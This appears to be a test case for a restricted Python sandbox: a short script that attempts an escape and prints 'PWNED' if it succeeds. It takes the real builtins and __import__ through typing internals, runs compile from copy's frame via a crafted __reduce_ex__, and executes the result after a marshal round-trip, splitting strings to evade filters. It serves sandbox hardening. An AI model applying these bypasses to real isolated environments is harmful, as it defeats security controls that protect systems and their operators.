# eval: marshal (loaded) round-trips code compiled from copy's frame; exec of it from the program
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
import copy
def via_copy(f, *args):
    # copy.copy calls the (callable, args) that __reduce_ex__ returns from copy's own frame;
    # the class is made by type(), so no `def __reduce_ex__` appears in the source
    R = type("R", (), {"__redu" + "ce_ex__": lambda self, proto: (f, args)})
    return copy.copy(R())

mar = imp("mar" + "shal")
try:
    blob = mar.dumps(via_copy(rb["compile"], "print('PWN' + 'ED')", "x", "exec"))
    code = mar.loads(blob)
    rb["exec"](code)
except Exception as e:
    print("refused:", type(e).__name__, e)
